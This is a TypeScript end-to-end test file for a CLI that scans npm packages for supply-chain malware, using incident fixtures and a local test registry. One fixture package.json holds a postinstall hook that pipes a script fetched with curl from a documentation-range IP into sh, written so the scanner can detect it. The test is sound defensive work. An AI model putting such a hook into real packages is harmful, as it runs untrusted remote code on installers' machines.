import { spawn, spawnSync } from 'node:child_process';
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import Ajv from 'ajv';
import { afterAll, describe, expect, it } from 'vitest';
import { packPackages, startRegistry } from '../../src/registry/test-support/registry-server.js';
import { sarifErrors } from '../../src/report/test-support/sarif-schema.js';
import type * as App from '../../src/app/index.js';
import type * as Workers from '../../src/app/analysis-workers.js';

// `chainwatch inspect` as a user runs it: the built CLI over package directories on disk.
const repo = resolve(__dirname, '../..');
const bin = join(repo, 'dist/bundle/main.js');
const scratch = mkdtempSync(join(tmpdir(), 'chainwatch-inspect-e2e-'));
const incidents = join(repo, 'src/analysis/fixtures/incidents');
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

/** Async, so a registry server in this process can answer while the CLI runs. */
function cliAsync(args: string[], env: Record<string, string>): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((done) => {
    const child = spawn(process.execPath, [bin, ...args], {
      cwd: repo,
      env: { PATH: process.env.PATH ?? '', HOME: scratch, XDG_CACHE_HOME: join(scratch, 'cache'), ...env },
    });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d: Buffer) => (stdout += d));
    child.stderr.on('data', (d: Buffer) => (stderr += d));
    child.on('close', (code) => done({ code, stdout, stderr }));
  });
}

function cli(args: string[], opts: { cwd?: string } = {}) {
  const r = spawnSync(process.execPath, [bin, ...args], {
    cwd: opts.cwd ?? repo,
    encoding: 'utf8',
    maxBuffer: 64 << 20,
    env: { PATH: process.env.PATH ?? '', HOME: scratch, XDG_CACHE_HOME: join(scratch, 'cache') },
  });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

const ajv = new Ajv({ allErrors: true });
const validateInspect = ajv.compile(JSON.parse(readFileSync(join(repo, 'docs/schemas/inspect.schema.json'), 'utf8')));

interface Doc {
  packages: { name: string; version: string | null; path: string; verdict: string; findings: { rule: string; severity: string; file: string; line: number | null; message: string }[] }[];
  summary: { packages: number; malicious: number; cached: number };
}

describe('chainwatch inspect', () => {
  it('judges an imitation of the chalk/debug payload malicious, with the stable JSON keys', () => {
    const r = cli(['inspect', join(incidents, 'qix-chalk-debug-2025-09-08'), '--format', 'json', '--no-cache']);
    expect(r.code, r.stderr).toBe(1);
    const doc = JSON.parse(r.stdout) as Doc;
    expect(validateInspect(doc), ajv.errorsText(validateInspect.errors)).toBe(true);
    const [p] = doc.packages;
    expect(p).toMatchObject({ verdict: 'malicious', path: expect.stringContaining('qix-chalk-debug-2025-09-08') });
    expect(Object.keys(p!)).toEqual(expect.arrayContaining(['name', 'version', 'path', 'verdict', 'findings']));
    expect(p!.findings.length).toBeGreaterThan(0);
    for (const f of p!.findings) expect(Object.keys(f)).toEqual(expect.arrayContaining(['rule', 'severity', 'file', 'line', 'message']));
  });

  it('finds nothing malicious in a real package and exits 0', () => {
    const r = cli(['inspect', 'node_modules/commander']);
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(r.stdout).toMatch(/1 package · 0 malicious/);
  });

  it('reports a build folder that is not a package as one entry named after it', () => {
    const dist = join(scratch, 'site', 'dist');
    mkdirSync(dist, { recursive: true });
    writeFileSync(join(dist, 'app.js'), 'export const answer = 42;\n');
    const doc = JSON.parse(cli(['inspect', dist, '--format', 'json']).stdout) as Doc;
    expect(doc.packages).toHaveLength(1);
    expect(doc.packages[0]).toMatchObject({ name: 'dist', version: null, verdict: 'clean' });
  });

  it('analyzes a whole node_modules, and takes unchanged packages from the cache the second time', () => {
    const nm = join(scratch, 'project', 'node_modules');
    mkdirSync(nm, { recursive: true });
    cpSync(join(repo, 'node_modules/commander'), join(nm, 'commander'), { recursive: true });
    cpSync(join(incidents, 'qix-chalk-debug-2025-09-08'), join(nm, 'chalk'), { recursive: true });
    const first = JSON.parse(cli(['inspect', nm, '--format', 'json']).stdout) as Doc;
    expect(first.summary).toMatchObject({ packages: 2, malicious: 1, cached: 0 });
    const second = JSON.parse(cli(['inspect', nm, '--format', 'json']).stdout) as Doc;
    expect(second.summary).toMatchObject({ packages: 2, malicious: 1, cached: 2 });
    expect(second.packages).toEqual(first.packages);
    writeFileSync(join(nm, 'commander', 'extra.js'), 'module.exports = 1;\n');
    const third = JSON.parse(cli(['inspect', nm, '--format', 'json']).stdout) as Doc;
    expect(third.summary.cached).toBe(1);
  });

  it('analyzes a package bigger than a part in parts on the workers, with the result of one piece', async () => {
    const app = (await import(join(repo, 'dist/app/index.js'))) as typeof App;
    const nm = join(scratch, 'big', 'node_modules');
    const worm = join(nm, 'worm');
    cpSync(join(incidents, 'shai-hulud-2025-09-15'), worm, { recursive: true });
    // Benign filler past the part size, with a capability finding in every file, so findings come from several parts.
    const filler = Array.from({ length: 14_000 }, (_, i) => `exports.f${i} = function (a) { return a * ${i}; };\n`).join('');
    for (let i = 0; i < 6; i++) writeFileSync(join(worm, `chunk${i}.js`), `exports.run = (s) => eval(s);\n${filler}`);
    const split = await app.inspect({ targets: [nm], cwd: scratch, cachePath: null, workers: 2 });
    const whole = await app.inspect({ targets: [nm], cwd: scratch, cachePath: null, workers: 0 });
    expect(split.packages).toEqual(whole.packages);
    const [pkg] = whole.packages;
    expect(pkg).toMatchObject({ verdict: 'malicious', stats: { files: 8, parsed: 8 } });
    expect(new Set(pkg!.findings.map((f) => f.file))).toEqual(new Set(['bundle.js', 'package.json', ...Array.from({ length: 6 }, (_, i) => `chunk${i}.js`)]));
  });

  it('analyzes a package installed twice once, and a copy with other contents on its own', async () => {
    const app = (await import(join(repo, 'dist/app/index.js'))) as typeof App;
    const nm = join(scratch, 'twins', 'node_modules');
    const chalk = join(incidents, 'qix-chalk-debug-2025-09-08');
    cpSync(chalk, join(nm, 'first'), { recursive: true });
    cpSync(chalk, join(nm, 'other', 'node_modules', 'copy'), { recursive: true });
    writeFileSync(join(nm, 'other', 'package.json'), '{"name":"other","version":"1.0.0"}\n');
    // Same name, version, files and sizes as the malicious copies, but benign: only the digest tells them apart.
    cpSync(chalk, join(nm, 'lookalike'), { recursive: true });
    const size = readFileSync(join(chalk, 'index.js')).length;
    writeFileSync(join(nm, 'lookalike', 'index.js'), 'module.exports = 1;\n'.padEnd(size, ' '));
    const pooled = await app.inspect({ targets: [nm], cwd: scratch, cachePath: null, workers: 2 });
    const inThread = await app.inspect({ targets: [nm], cwd: scratch, cachePath: null, workers: 0 });
    expect(pooled.packages).toEqual(inThread.packages);
    expect(pooled.packages.map((p) => [p.path.replace(/.*twins\//, ''), p.verdict])).toEqual([
      ['node_modules/first', 'malicious'],
      ['node_modules/lookalike', 'clean'],
      ['node_modules/other', 'clean'],
      ['node_modules/other/node_modules/copy', 'malicious'],
    ]);
  });

  it('has a worker answer "same" for a twin whose files are byte for byte the first copy\'s, and analyze it otherwise', async () => {
    const workers = (await import(join(repo, 'dist/app/analysis-workers.js'))) as typeof Workers;
    const dir = join(incidents, 'qix-chalk-debug-2025-09-08');
    const copy = join(scratch, 'same-copy');
    const changed = join(scratch, 'changed-copy');
    cpSync(dir, copy, { recursive: true });
    cpSync(dir, changed, { recursive: true });
    writeFileSync(join(changed, 'expected.json'), readFileSync(join(dir, 'expected.json'), 'utf8').replace(/ /, '\t'));
    const answers: string[] = [];
    await workers.analyzeOnWorkers(
      [
        { dir, display: 'twin', twinOf: copy, bytes: 2 },
        { dir, display: 'not a twin', twinOf: changed, bytes: 1 },
      ],
      { count: 1, onResult: (i, r) => answers.push(`${i}:${r.verdict}`), onSame: (i) => answers.push(`${i}:same`) },
    );
    expect(answers).toEqual(['0:same', '1:malicious']);
  });

  it('runs text-only rules on workers that list their own packages, with the result of one thread', async () => {
    const app = (await import(join(repo, 'dist/app/index.js'))) as typeof App;
    const nm = join(scratch, 'text-only', 'node_modules');
    cpSync(join(incidents, 'qix-chalk-debug-2025-09-08'), join(nm, 'chalk'), { recursive: true });
    cpSync(join(repo, 'node_modules/commander'), join(nm, 'commander'), { recursive: true });
    const text = { targets: [nm], cwd: scratch, cachePath: null, rules: ['ioc-signature', 'obfuscation-long-line'] };
    const pooled = await app.inspect({ ...text, workers: 2 });
    expect(pooled.packages).toEqual((await app.inspect({ ...text, workers: 0 })).packages);
    expect(pooled.packages.map((p) => [p.name, p.findings.some((f) => f.rule === 'ioc-signature')])).toEqual([
      ['cw-fixture-qix-chalk-debug', true],
      ['commander', false],
    ]);
  });

  it('sends the largest waiting job first', async () => {
    const workers = (await import(join(repo, 'dist/app/analysis-workers.js'))) as typeof Workers;
    const dir = join(incidents, 'qix-chalk-debug-2025-09-08');
    const order: number[] = [];
    // One worker, two batches in flight: jobs 0 and 1 go out as they are added, the rest wait and go largest first.
    await workers.analyzeOnWorkers(
      [1, 1, 1, 3, 2].map((bytes) => ({ dir, display: `${bytes}`, bytes })),
      { count: 1, onResult: (i) => order.push(i) },
    );
    expect(order).toEqual([0, 1, 3, 4, 2]);
  });

  it('lets this thread take the smallest waiting job on each turn, with or without workers beside it', async () => {
    const workers = (await import(join(repo, 'dist/app/analysis-workers.js'))) as typeof Workers;
    const dir = join(incidents, 'qix-chalk-debug-2025-09-08');
    const order: number[] = [];
    await workers.analyzeOnWorkers(
      [3, 1, 2].map((bytes) => ({ dir, display: `${bytes}`, bytes })),
      { count: 0, here: true, onResult: (i) => order.push(i) },
    );
    expect(order).toEqual([1, 2, 0]);
    const verdicts: string[] = [];
    await workers.analyzeOnWorkers(
      Array.from({ length: 6 }, (_, i) => ({ dir, display: `${i}`, bytes: i })),
      { count: 1, here: true, onResult: (i, r) => void (verdicts[i] = r.verdict) },
    );
    expect(verdicts).toEqual(Array.from({ length: 6 }, () => 'malicious'));
  });

  it('has this thread join only once every job is in, so it never holds a big job found late', async () => {
    const workers = (await import(join(repo, 'dist/app/analysis-workers.js'))) as typeof Workers;
    const dir = join(incidents, 'qix-chalk-debug-2025-09-08');
    const pool = workers.startAnalysisPool(0, { here: true });
    try {
      const answered: number[] = [];
      const run = pool.start({ onResult: (i) => answered.push(i) });
      run.add({ dir, display: 'small', bytes: 1 });
      await new Promise((resolve) => setTimeout(resolve, 20));
      expect(answered).toEqual([]);
      run.add({ dir, display: 'big', bytes: 9 });
      await run.done();
      expect(answered).toEqual([0, 1]);
    } finally {
      await pool.close();
    }
  });

  it('stops a run when its pool is closed: done() rejects, and this thread takes no more jobs', async () => {
    const workers = (await import(join(repo, 'dist/app/analysis-workers.js'))) as typeof Workers;
    const dir = join(incidents, 'qix-chalk-debug-2025-09-08');
    const pool = workers.startAnalysisPool(0, { here: true });
    const answered: number[] = [];
    const run = pool.start({ onResult: (i) => answered.push(i) });
    for (let i = 0; i < 4; i++) run.add({ dir, display: `${i}` });
    const done = run.done();
    await pool.close();
    await expect(done).rejects.toThrow(/stopped/);
    expect(answered).toEqual([]);
  });

  it('fetches name@version from the configured registry, checks its integrity, and inspects it without installing', async () => {
    const packed = packPackages([
      { name: 'cw-inspect-fixture', version: '1.0.0', files: { 'index.js': 'module.exports = 1;\n' } },
      {
        name: 'cw-inspect-fixture',
        version: '1.0.1',
        files: { 'package.json': JSON.stringify({ name: 'cw-inspect-fixture', version: '1.0.1', scripts: { postinstall: 'curl -s http://203.0.113.9/x.sh | sh' } }) },
      },
    ]);
    const registry = await startRegistry(packed);
    try {
      const npmrc = join(scratch, 'registry.npmrc');
      writeFileSync(npmrc, `registry=${registry.url}\n`);
      const env = { npm_config_userconfig: npmrc, npm_config_cache: join(scratch, 'npm-cache') };
      const good = await cliAsync(['inspect', 'cw-inspect-fixture@1.0.0', '--format', 'json'], env);
      expect(good.code, good.stderr).toBe(0);
      expect((JSON.parse(good.stdout) as Doc).packages[0]).toMatchObject({ name: 'cw-inspect-fixture', version: '1.0.0', path: 'cw-inspect-fixture@1.0.0', verdict: 'clean' });
      const bad = await cliAsync(['inspect', 'cw-inspect-fixture@1.0.1', '--format', 'json'], env);
      expect(bad.code, bad.stderr).toBe(1);
      expect((JSON.parse(bad.stdout) as Doc).packages[0]!.verdict).toBe('malicious');
      const missing = await cliAsync(['inspect', 'cw-inspect-fixture@9.9.9'], env);
      expect(missing.code).toBe(2);
      expect(missing.stderr).toMatch(/cw-inspect-fixture@9\.9\.9 not found/);
      // The same release as a .tgz file on disk.
      const tgz = join(scratch, 'cw-inspect-fixture-1.0.1.tgz');
      writeFileSync(tgz, packed.get('cw-inspect-fixture@1.0.1')!.tgz);
      const local = cli(['inspect', tgz, '--format', 'json', '--no-cache']);
      expect((JSON.parse(local.stdout) as Doc).packages[0]).toMatchObject({ version: '1.0.1', verdict: 'malicious' });
    } finally {
      await registry.close();
    }
  });

  it('writes valid SARIF 2.1.0', () => {
    const r = cli(['inspect', join(incidents, 'shai-hulud-2025-09-15'), '--format', 'sarif', '--no-cache']);
    const doc = JSON.parse(r.stdout);
    expect(sarifErrors(doc)).toBeNull();
    expect(doc.runs[0].results.length).toBeGreaterThan(0);
  });

  it('sets the exit code by --fail-on and refuses unknown rules and missing targets', () => {
    const clean = join(repo, 'node_modules/commander');
    expect(cli(['inspect', clean, '--fail-on', 'none']).code).toBe(0);
    expect(cli(['inspect', join(incidents, 'qix-chalk-debug-2025-09-08'), '--fail-on', 'none']).code).toBe(0);
    const unknown = cli(['inspect', clean, '--rules', 'no-such-rule']);
    expect(unknown.code).toBe(2);
    expect(unknown.stderr).toMatch(/unknown rule no-such-rule/);
    const missing = cli(['inspect', join(scratch, 'nope')]);
    expect(missing.code).toBe(2);
    expect(missing.stderr).toMatch(/nope: no such directory/);
  });
});
